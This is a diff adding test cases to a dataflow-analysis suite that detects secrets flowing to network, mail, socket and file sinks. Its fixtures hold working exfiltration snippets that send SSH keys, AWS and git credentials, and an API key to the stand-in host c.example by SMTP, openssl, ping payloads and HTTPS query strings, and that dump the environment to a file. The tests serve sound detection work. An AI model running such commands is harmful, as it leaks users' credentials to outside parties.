@@ -314,6 +314,10 @@ describe('dataflow analysis', () => {
       assert.deepEqual(summary(await flowsOf('python', dotenv)).map((line) => line.split(' -> ')[1]), ['network']);
       const mail = "import smtplib, os\nfrom email.message import EmailMessage\nmsg = EmailMessage()\nwith open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as fh:\n    msg.add_attachment(fh.read(), maintype='application', subtype='octet-stream')\nwith smtplib.SMTP('smtp.c.example') as s:\n    s.send_message(msg)\n";
       assert.deepEqual(summary(await flowsOf('python', mail)), ['secret: the SSH private key -> mail']);
+      const channels = 'mail -s r ops@c.example < ~/.git-credentials\nopenssl s_client -quiet -connect c.example:443 < ~/.aws/credentials\nd=$(head -c 16 ~/.ssh/id_rsa | xxd -p)\nping -c 1 -p "$d" c.example\nmail -s weekly team@c.example < report.txt\nping -c 1 c.example\n';
+      assert.deepEqual(summary(await flowsOf('bash', channels)), ['secret: git or package-registry credentials -> mail', 'secret: AWS credentials -> socket', 'secret: the SSH private key -> socket']);
+      const optionsPath = "const https = require('https');\nhttps.request({ hostname: 'c.example', path: '/c?k=' + encodeURIComponent(process.env.OPENAI_API_KEY) }).end();\nhttps.request({ hostname: 'api.openai.com', path: '/v1/models?key=' + process.env.OPENAI_API_KEY }).end();\n";
+      assert.deepEqual(summary(await flowsOf('javascript', optionsPath)), ['secret: the secret variable OPENAI_API_KEY -> network']);
       const dumped = "import os, json\njson.dump(dict(os.environ), open('/tmp/env.json', 'w'))\n";
       assert.deepEqual(summary(await flowsOf('python', dumped)), ['secret: the whole environment -> shared-file']);
     });
